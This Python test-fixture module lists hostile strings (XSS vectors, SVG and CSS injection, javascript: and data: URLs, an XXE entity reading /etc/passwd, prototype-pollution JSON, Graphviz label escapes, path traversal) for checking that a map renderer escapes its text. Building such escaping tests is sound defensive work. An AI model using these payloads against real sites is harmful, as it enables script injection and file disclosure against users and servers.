"""Hostile texts for every language that the text of a map is embedded in.

Each tries to escape from its context: HTML, SVG, CSS, a script, JSON, XML, DOT, a label of
Graphviz, or a URL. A successful one opens a dialog, requests something, or is missing from where it
should be shown.
"""

_CODE = "alert(1)"
_URL = "https://evil.invalid/x"

_ENDINGS = (
    *("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "\\", "</", "?>", "%>", "}}", "${"),
    *("</text>", "</title>", "</desc>", "</g></svg>", "</style>", "</script>", "</textarea>"),
    *("</h2>", "</option></select>", "</noscript>", "</template>", "</iframe>", "</xmp>"),
)
"""Prefixes that close the context of a payload."""

_ELEMENTS = (
    f"<script>{_CODE}</script>",
    f"<img src=x onerror={_CODE}>",
    f"<svg onload={_CODE}>",
)

_MARKUP = (
    f"<SCRIPT>{_CODE}</SCRIPT>",
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    f"<script src={_URL}.js></script>",
    "<script src=//evil.invalid/x.js></script>",
    f"<script\n>{_CODE}</script\n>",
    f"<script/x>{_CODE}</script>",
    f"<<script>{_CODE}//<</script>",
    f"<img/src=x/onerror={_CODE}//",
    f"<img src={_URL}.png>",
    f'<img srcset="{_URL} 1x">',
    f"<body onload={_CODE}>",
    f"<body background={_URL}>",
    f"<iframe src=javascript:{_CODE}></iframe>",
    f"<iframe srcdoc='<script>{_CODE}</script>'></iframe>",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    f"<link rel=stylesheet href={_URL}.css>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<base href={_URL}>",
    f"<form action={_URL}><button autofocus onfocus={_CODE}>x</button></form>",
    f"<input autofocus onfocus={_CODE}>",
    f"<details open ontoggle={_CODE}><summary>x</summary></details>",
    f"<video src={_URL} onerror={_CODE}></video>",
    f"<audio src={_URL} onerror={_CODE}></audio>",
    f"<marquee onstart={_CODE}>x</marquee>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CODE}></style></mglyph></math>",
    f"<a href=javascript:{_CODE}>x</a>",
    f'<div style="background:url({_URL})">x</div>',
    f"<p tabindex=0 onfocus={_CODE} autofocus>x</p>",
    f"<!--><script>{_CODE}</script>-->",
    f"<!-- --!><img src=x onerror={_CODE}>",
    f"<![CDATA[<script>{_CODE}</script>]]>",
    f"<?xml-stylesheet href='{_URL}.xsl' type='text/xsl'?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_URL}'>]>&y;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    f"&lt;script&gt;{_CODE}&lt;/script&gt;",
    f"&#60;script&#62;{_CODE}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_CODE}&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nosuch; &#0; &#xD800; &#x110000; &",
    "<plaintext>",
    "<textarea>",
    "<noscript>",
    "<title>",
    "<style>*{display:none}",
    "<xmp>",
)

_PICTURES = (
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><script href={_URL}.js /></svg>",
    f"<svg><script xlink:href=data:,{_CODE} /></svg>",
    f"<svg><image href={_URL}.png onerror={_CODE} /></svg>",
    f"<svg><use href={_URL}.svg#x /></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s /></svg>",
    f"<svg><set attributeName=onmouseover to={_CODE} /></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_CODE}></iframe></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{_CODE}><text>x</text></a></svg>",
    f"<svg><style>@import url({_URL}.css);</style></svg>",
    f"<svg><filter><feImage href={_URL} /></filter></svg>",
    f"<svg><handler ev:event=load>{_CODE}</handler></svg>",
    f'" onload="{_CODE}" x="',
    f"' onload='{_CODE}' x='",
    f'" onmouseover={_CODE} style="position:fixed;inset:0',
    f'x" transform="scale(99)" onclick="{_CODE}',
    f'" autofocus tabindex="0" onfocus="{_CODE}',
    f'"/><script xmlns="http://www.w3.org/2000/svg">{_CODE}</script><g id="',
)

_STYLES = (
    f"}}*{{background:url({_URL})}}",
    f"@import '{_URL}.css';",
    f"expression({_CODE})",
    f"url(javascript:{_CODE})",
    f"</style><script>{_CODE}</script>",
    "}body{display:none}",
    "\\3c script\\3e",
    "/*",
    "*/",
    f"@font-face{{font-family:x;src:url({_URL})}}",
    f"image-set('{_URL}' 1x)",
    "#x{content:'\\0041'}",
)

_SCRIPTS = (
    f'";{_CODE};//',
    f"';{_CODE};//",
    f"`;{_CODE};//",
    f"${{{_CODE}}}",
    f"{{{{constructor.constructor('{_CODE}')()}}}}",
    f"\\u003cscript\\u003e{_CODE}\\u003c/script\\u003e",
    f'\\";{_CODE};//',
    f"\u2028{_CODE}\u2029",
    f"\n{_CODE}\n//",
    f"*/{_CODE}/*",
    f"<!--<script>{_CODE}",
    f"--></script><script>{_CODE}</script>",
    f"</script ><script>{_CODE}</script>",
    f"</SCRIPT><script>{_CODE}</script>",
    '"},{"__proto__":{"x":1}},{"',
    '{"__proto__": {"isAway": true}}',
    "__proto__",
    "constructor",
    "toString",
    "$title $style $script $data $$ ${data}",
    "{{title}} {% x %} <%= x %> #{x}",
    "undefined",
    "null",
    "NaN",
)

_GRAPHS = (
    '"]; x [label="y',
    '"; } digraph { a -> b [URL="javascript:alert(1)"]; "',
    ">]; x -> y [label=<",
    "<IMG SRC='/etc/passwd'/>",
    f"<IMG SRC='{_URL}.png'/>",
    "<TABLE><TR><TD HREF='javascript:alert(1)'>x</TD></TR></TABLE>",
    "<BR/><B>x</B><FONT COLOR='red'>y</FONT>",
    "\\N \\G \\E \\T \\H \\L",
    "\\n\\l\\r",
    "\\\\N",
    "\\",
    "\\\\",
    "{ rank=same; a }",
    "subgraph cluster_x { a }",
    "// not a comment",
    "/* not a comment */",
    "# not a line of the preprocessor",
    "a:port:n -> b",
    'shapefile="/etc/passwd" imagepath="/etc"',
    "&#65; &copy; &nbsp;",
    "-> -- [ ] { } ; , = < > |",
)

_LETTERS = (
    "a\x00b",
    "a\x01\x02\x1b[31mb",
    "a\x7f\x80\x9fb",
    "a\ufffe\uffffb",
    "a\ud800b",
    "a\u202eb\u202c c",
    "a\u2066b\u2069 c",
    "a\u200bb\u200db\ufeffb",
    "a\u0085b\u2028c\u2029d",
    "\u0301\u0302\u0303 above",
    "Z\u0334\u0335\u0336\u0337\u0338algo",
    "＜script＞alert(1)＜/script＞",
    "ʺ›‹ ＂＇",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00%0d%0aX-Injected: 1",
    "../../../../etc/passwd",
    "\U0001f600\U0001f1f9\U0001f1f7",
    "w" * 500,
    "<" * 120,
    '"' * 120,
    "&" * 120,
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:/*--></script>*/alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript\u200b:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.invalid/x",
    "file:///etc/passwd",
    "filesystem:x",
    "view-source:x",
    "about:blank",
    "ftp://evil.invalid/",
    "//evil.invalid/x",
    "/evil.invalid/x",
    "\\\\evil.invalid\\share",
    "/\\evil.invalid",
    "https:\\\\evil.invalid",
    'https://evil.invalid/" onclick="alert(1)',
    "https://evil.invalid/'onclick='alert(1)",
    "https://evil.invalid/><script>alert(1)</script>",
    "https://evil.invalid/\x00",
    "https://evil.invalid/\u2028x",
    "http:javascript:alert(1)",
    "mailto:a@b.invalid?subject=<script>alert(1)</script>",
    "intent://x#Intent;scheme=javascript;end",
    "tel:1",
    "#x",
    "?x",
)
"""URLs; only those with a safe scheme may be linked."""

VECTORS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"{ending}{element}" for element in _ELEMENTS for ending in _ENDINGS),
            *(*_MARKUP, *_PICTURES, *_STYLES, *_SCRIPTS, *_GRAPHS, *_LETTERS, *ADDRESSES),
        ]
    )
)
"""All hostile texts, without duplicates."""
